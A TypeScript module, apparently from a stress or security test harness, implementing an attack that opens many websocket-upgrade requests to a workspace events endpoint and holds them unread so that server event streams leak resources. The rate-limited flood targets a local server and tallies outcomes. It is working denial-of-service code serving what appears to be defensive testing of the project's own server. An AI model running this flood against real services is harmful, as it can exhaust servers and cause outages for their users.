/**
 * Attack 1: `GET /api/workspaces/:wid/events` carrying a websocket handshake, never read. Node
 * hands any request with an `Upgrade` header to the upgrade listeners; if one runs it through the
 * app without reading the response, the event stream it opens never sees an abort and copies
 * every later event (the admin renames the document each second) until the server restarts.
 */
import { runLoop, sleep } from '../loop.js'
import { rawExchange, requestText, websocketHandshake } from '../raw.js'
import { Tally } from '../tally.js'
import { type Attack, type AttackContext, cookieFor } from './context.js'

const ANSWER_TIMEOUT_MS = 5_000
/** How long each socket is left open, unread, after the answer. */
const HOLD_MS = 1_000

export const upgradeEventsPlan = { maxAttempts: 6_000, maxInFlight: 32, perSecond: 25 }

export function upgradeEvents(ctx: AttackContext): Attack {
  const tally = new Tally(
    'upgrade-on-events',
    'GET …/events with Upgrade: websocket, never read (1)',
    'rawSockets',
  )
  const { target } = ctx
  const done = runLoop(upgradeEventsPlan, ctx.signal, tally, async (i) => {
    const exchange = rawExchange(
      target.port,
      requestText('GET', `/api/workspaces/${target.workspaceId}/events`, {
        Host: `127.0.0.1:${target.port}`,
        Origin: target.origin,
        Cookie: cookieFor(target, i),
        Accept: 'text/event-stream',
        ...websocketHandshake(),
      }),
      ctx.sockets,
    )
    const release = tally.hold(() => !exchange.socket.destroyed)
    const outcome = await Promise.race([
      exchange.answer,
      sleep(ANSWER_TIMEOUT_MS, ctx.signal).then(() =>
        ctx.signal.aborted ? 'stopped at the end' : `no answer in ${ANSWER_TIMEOUT_MS / 1000} s`,
      ),
    ])
    tally.outcome(outcome)
    await sleep(HOLD_MS, ctx.signal)
    exchange.socket.destroy()
    release()
  })
  return { tallies: [tally], done }
}
